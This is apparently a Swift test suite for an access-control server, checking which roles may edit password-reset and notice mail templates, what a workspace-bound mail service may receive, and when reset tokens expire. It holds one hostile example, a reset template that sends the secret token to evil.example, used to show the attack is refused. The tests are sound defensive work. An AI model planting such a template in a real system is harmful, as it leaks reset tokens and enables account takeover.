import Testing

@testable import GatehouseCore

/// Who says how mails read that carry a secret or tell of an act.
@Suite("Mails that carry a secret or report an act")
struct GuardedMailTests {
  private let core = CoreHarness(partitions: 4)
  private let operatorToken: String

  init() {
    for line in [
      "PRODUCT.CREATE crm", "WORKSPACE.CREATE acme", "PRODUCT.CREATE acme/app",
      "USER.CREATE sue EMAIL sue@main.test ROLE super-administrator PRODUCT crm NOINVITE",
      "USER.CREATE ta WORKSPACE acme EMAIL ta@acme.test PRODUCT acme/app NOINVITE",
      "USER.CREATE boss WORKSPACE acme EMAIL boss@acme.test PRODUCT acme/app NOINVITE",
      "USER.CREATE guard WORKSPACE acme PRODUCT acme/app NOINVITE",
      "USER.CREATE ana WORKSPACE acme EMAIL ana@acme.test PRODUCT acme/app NOINVITE",
      "ROLE.GRANT ta training-administrator WORKSPACE acme", "ROLE.GRANT boss super-administrator WORKSPACE acme",
      "ROLE.DEFINE warden WORKSPACE acme workspace.set security.set mail.handle user.read",
      "ROLE.GRANT guard warden WORKSPACE acme",
    ] {
      let answer = core.run(line)
      #expect(!answer.isError, "\(line): \(answer)")
    }
    operatorToken = core.logIn("sue", "crm")
    core.decidesTwice = true
  }

  private func token(_ user: String) -> String { core.logIn(user, "acme/app") }

  private static let evil =
    "MAIL.TEMPLATE.SET password-reset Reset \"https://evil.example/?t={{secret}}\" WORKSPACE acme"

  @Test("P13, L10: a training administrator takes nobody over by the text of a mail, and silences no notice")
  func trainingAdministrator() {
    let ta = token("ta")
    #expect(
      core.run(Self.evil, as: ta).text == "NOPERM the permission security.set in the workspace acme")
    for kind in [
      "password-generated", "username-changed", "address-changed", "impersonated", "impersonation-reported",
      "managed-impersonated",
    ] {
      for language in ["", " LANGUAGE cs"] {
        let where_ = "WORKSPACE acme\(language)"
        #expect(core.run("MAIL.TEMPLATE.SET \(kind) Hi nothing \(where_)", as: ta).text?.hasPrefix("NOPERM") == true)
        #expect(core.run("MAIL.TEMPLATE.RESET \(kind) \(where_)", as: ta).text?.hasPrefix("NOPERM") == true)
      }
    }
    for kind in [
      "invitation", "timer-stopped", "managed-created", "managed-status", "managed-deleted", "managed-booked",
      "managed-unbooked",
    ] {
      #expect(core.run("MAIL.TEMPLATE.SET \(kind) Hi {{name}} WORKSPACE acme", as: ta).text == "OK", "\(kind)")
      #expect(core.run("MAIL.TEMPLATE.RESET \(kind) WORKSPACE acme", as: ta).integer == 1, "\(kind)")
    }
    #expect(
      core.run("WORKSPACE.SET acme policy.manager.notices \"\"", as: ta).text?.hasPrefix("NOPERM") == true,
      "the notice of an impersonation is one of them")
    core.expectReplicated()
  }

  @Test(
    "L10: whoever sets security policies reports acts, but writes nothing that carries the secret of a super administrator"
  )
  func warden() {
    let warden = token("guard")
    #expect(core.run("MAIL.TEMPLATE.SET impersonated Hi {{actor}} WORKSPACE acme", as: warden).text == "OK")
    #expect(
      core.run(Self.evil, as: warden).text
        == "NOPERM the role super-administrator, to write the text of password-reset: its secret lets whoever gets it log in"
        + " as its recipient, super administrators among them")
    #expect(core.run(Self.evil, as: token("boss")).text == "OK")
    #expect(core.run("MAIL.TEMPLATE.SET password-reset Hi {{secret}}", as: operatorToken).text == "OK")
    core.run("USER.CREATE local PRODUCT crm NOINVITE")
    core.run("ROLE.GRANT local super-administrator WORKSPACE main")
    #expect(
      core.run("MAIL.TEMPLATE.SET password-reset Hi {{secret}}", as: core.logIn("local", "crm")).text?.hasPrefix(
        "NOPERM the role super-administrator everywhere, to write") == true)
    core.expectReplicated()
  }

  @Test("W6: a workspace's text of a reset never reaches those who administer the whole server")
  func operators() {
    core.run("USER.CREATE root WORKSPACE acme EMAIL root@acme.test PRODUCT acme/app NOINVITE")
    core.run("ROLE.GRANT root super-administrator")
    #expect(core.run(Self.evil, as: token("boss")).text == "OK")
    for user in ["root", "ana"] {
      core.run("PASSWORD.RESET \(user)")
      core.advance(1)
    }
    let mails = core.run("MAIL.NEXT COUNT 9").items
    #expect(mails.count == 2)
    #expect(mails.first?["text"].text?.contains("evil") == false && mails.first?["to"].text == "root@acme.test")
    #expect(mails.first?["text"].text?.contains(mails.first?["secret"].text ?? "-") == true)
    #expect(mails.last?["text"].text?.hasPrefix("https://evil.example/?t=gr_") == true)
    core.expectReplicated()
  }

  // MARK: Who is handed a secret

  private func recipients(_ mails: [Answer]) -> [String] { mails.map { $0["to"].text ?? "" }.sorted() }

  @Test(
    "P13, W6: a service of one workspace is handed no secret of who has power beyond it, with which it could become them",
    arguments: [ServiceRights.mail, .admin])
  func boundCourier(rights: ServiceRights) {
    for name in ["root", "watch", "elsewhere"] {
      core.run("USER.CREATE \(name) WORKSPACE acme EMAIL \(name)@acme.test PRODUCT acme/app NOINVITE")
    }
    core.run("ROLE.GRANT root super-administrator")
    core.run("ROLE.DEFINE watcher user.read")
    core.run("ROLE.GRANT watch watcher")
    core.run("WORKSPACE.MEMBER main elsewhere")
    core.run("ROLE.GRANT elsewhere super-administrator WORKSPACE main")
    core.run("SERVICE.CREATE ops ADMIN")
    core.run("SERVICE.CREATE courier \(rights.names[0]) WORKSPACE acme")
    for user in ["root", "watch", "elsewhere", "boss", "ana"] { core.run("PASSWORD.RESET \(user)") }
    core.run("PASSWORD.GENERATE root")
    core.run("USER.INVITE root")
    let free = core.connection
    core.connection = ConnectionFacts(id: 2, service: 2, rights: [.read, rights, .mail], isBound: true)
    let mine = core.run("MAIL.NEXT COUNT 20").items
    // W2: what somebody may elsewhere is no business of the home.
    #expect(
      recipients(mine) == ["ana@acme.test", "boss@acme.test", "elsewhere@acme.test", "root@acme.test"])
    #expect(mine.first { $0["to"].text == "root@acme.test" }?["kind"].text == "invitation")
    #expect(core.run("MAIL.NEXT COUNT 20").items.isEmpty)
    let waiting = core.run("MAIL.LIST STATE waiting")[1].items
    #expect(Set(waiting.map { $0["username"].text ?? "" }) == ["root", "watch"])
    #expect(waiting.allSatisfy { $0["attempts"].integer == 0 })
    #expect(waiting.flatMap(\.keys).allSatisfy { $0 != "secret" && $0 != "text" && $0 != "subject" })
    core.connection = free
    let theirs = core.run("MAIL.NEXT COUNT 20").items
    #expect(recipients(theirs) == ["root@acme.test", "watch@acme.test"])
    #expect(theirs.allSatisfy { $0["secret"].text?.isEmpty == false })
    core.expectReplicated()
  }

  @Test("P13, W6: what the courier of a workspace may be handed follows the rights that somebody has when it is taken")
  func laterPower() {
    core.run("SERVICE.CREATE ops ADMIN")
    core.run("SERVICE.CREATE courier MAIL WORKSPACE acme")
    core.run("ROLE.DEFINE watcher user.read")
    core.run("PASSWORD.RESET ana")
    core.run("ROLE.GRANT ana watcher")
    let (free, bound) = (
      core.connection, ConnectionFacts(id: 2, service: 2, rights: [.read, .mail], isBound: true)
    )
    core.connection = bound
    #expect(core.run("MAIL.NEXT").items.isEmpty)
    core.connection = free
    core.run("ROLE.REVOKE ana watcher")
    core.connection = bound
    #expect(recipients(core.run("MAIL.NEXT").items) == ["ana@acme.test"])
    core.expectReplicated()
  }

  @Test("L17: a token that has ended is not mailed, nor one after which another was asked for")
  func endedToken() {
    core.run("PASSWORD.RESET ana")
    core.advance(Limits.resetPause)
    core.run("PASSWORD.RESET ana")
    let mails = core.run("MAIL.NEXT COUNT 9").items
    #expect(mails.count == 1)
    let dead = core.run("MAIL.LIST STATE dead")[1].items
    #expect(dead.map { $0["error"].text } == ["the token in it has ended, or another was asked for since"])
    #expect(core.run("MAIL.RETRY \(dead[0]["id"])").integer == 1)
    #expect(core.run("MAIL.NEXT COUNT 9").items.isEmpty, "trying again does not bring it back")
    #expect(core.run("PASSWORD.REDEEM \(mails[0]["secret"].text ?? "") battery-staple").text == "OK")
    core.run("PASSWORD.RESET boss")
    core.advance(Limits.resetLife)
    #expect(core.run("MAIL.NEXT COUNT 9").items.isEmpty)
    core.expectReplicated()
  }

  @Test("P13: a password set by other means takes back what waits to be mailed")
  func replacedPassword() {
    for line in ["PASSWORD.SET ana correct-horse-9", "PASSWORD.GENERATE ana"] {
      core.run("PASSWORD.GENERATE ana")
      #expect(core.run(line).text == "OK")
    }
    let mails = core.run("MAIL.NEXT COUNT 9").items
    #expect(mails.count == 1, "of the last one alone")
    #expect(
      core.run(["LOGIN.PASSWORD", "ana", "acme/app", mails.first?["secret"].text ?? ""])["decision"].text == "ALLOW")
    core.expectReplicated()
  }

  // MARK: Ends of secrets

  @Test("W2: what the old home has mailed ends when the user is handed over")
  func movedHome() throws {
    core.run("USER.CREATE bob WORKSPACE acme EMAIL bob@acme.test PRODUCT acme/app NOINVITE")
    for user in ["ana", "bob"] { core.run("WORKSPACE.MEMBER main \(user)") }
    core.run("PASSWORD.RESET ana")
    let token = core.run("MAIL.NEXT")[0]["secret"].text ?? ""
    #expect(token.hasPrefix("gr_"))
    core.run("PASSWORD.GENERATE bob")
    for user in ["ana", "bob"] { #expect(core.run("USER.MOVEHOME \(user) main", as: operatorToken).text == "OK") }
    #expect(core.run("PASSWORD.REDEEM \(token) battery-staple").text?.hasPrefix("REFUSED reset: ") == true)
    core.advance(600_000)
    #expect(core.run("MAIL.NEXT COUNT 9").items.isEmpty)
    core.expectReplicated()
  }

  @Test("B12: who may send mails does not drop the notice of what they did themselves")
  func dropping() {
    core.run("WORKSPACE.SET acme policy.impersonation.notify person")
    let ta = token("ta")
    core.run("IMPERSONATE.START \(ta) ana WORKSPACE acme REASON help")
    let id = core.run("MAIL.LIST WORKSPACE acme")[1][0]["id"].integer ?? 0
    #expect(core.run("MAIL.DROP \(id)", as: ta).text == "NOPERM the permission security.set in the workspace acme")
    #expect(core.run("MAIL.DROP \(id)", as: token("guard")).integer == 1)
    core.run("USER.INVITE ana")
    let other = core.run("MAIL.LIST WORKSPACE acme")[1][0]["id"].integer ?? 0
    #expect(core.run("MAIL.DROP \(other)", as: ta).integer == 1)
    core.expectReplicated()
  }

  @Test("B13: where passwords need two people, so does the text that carries them")
  func approval() {
    core.run("WORKSPACE.SET acme policy.approval.needs credential.set")
    #expect(core.run(Self.evil, as: token("boss"))["needs"].text == "credential.set")
    #expect(core.run("MAIL.TEMPLATE.SET impersonated Hi {{actor}} WORKSPACE acme", as: token("boss")).text == "OK")
  }
}
